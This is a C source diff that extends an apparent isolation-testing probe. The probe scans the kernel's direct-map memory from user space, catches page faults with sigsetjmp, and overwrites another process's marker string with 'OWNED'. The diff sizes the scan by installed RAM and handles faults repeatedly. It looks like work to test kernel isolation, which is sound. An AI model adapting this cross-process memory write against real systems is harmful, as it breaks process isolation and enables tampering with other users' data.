@@ -5,6 +5,7 @@
 #include <pthread.h>
 #include <setjmp.h>
 #include <sys/mman.h>
+#include <sys/sysinfo.h>
 
 #define KERNEL_BASE 0xffffffff80000000 /* Linux's too, when nothing moves it */
 
@@ -83,6 +84,8 @@ static void write_process(void)
 	saw("stored", "into process %d", v.pid);
 }
 
+#define SLACK 8192 /* pages that are the kernel's own, and not in what it says there is */
+
 static sigjmp_buf hole;
 
 static void on_hole(int sig)
@@ -93,18 +96,21 @@ static void on_hole(int sig)
 /* The adaptive one: a private space hides addresses, not memory. The kernel maps all of it. */
 static void search_memory(void)
 {
+	struct sigaction sa = {.sa_handler = on_hole, .sa_flags = SA_NODEFER};
 	uintptr_t direct = kernel_symbol("direct") + (1 << 20);
-	unsigned long found = 0;
+	unsigned long found = 0, pages;
+	struct sysinfo info;
 	struct victim v;
 
-	if (!have_victim(&v))
+	if (!have_victim(&v) || sysinfo(&info))
 		return;
+	pages = info.totalram * info.mem_unit / PAGE + SLACK;
 	found += *(volatile uint8_t *)direct >> 8; /* where this is not allowed, it ends here */
-	signal(SIGSEGV, on_hole);
-	for (volatile unsigned long i = 0; i < (512ul << 20) / PAGE; i++) {
+	sigaction(SIGSEGV, &sa, NULL);
+	for (volatile unsigned long i = 0; i < pages && !found; i++) {
 		char *page = (char *)direct + i * PAGE;
 
-		if (sigsetjmp(hole, 1) == 0 && !memcmp(page, MARK, sizeof(MARK))) {
+		if (sigsetjmp(hole, 0) == 0 && !memcmp(page, MARK, sizeof(MARK))) {
 			strcpy(page, OWNED);
 			found++;
 		}
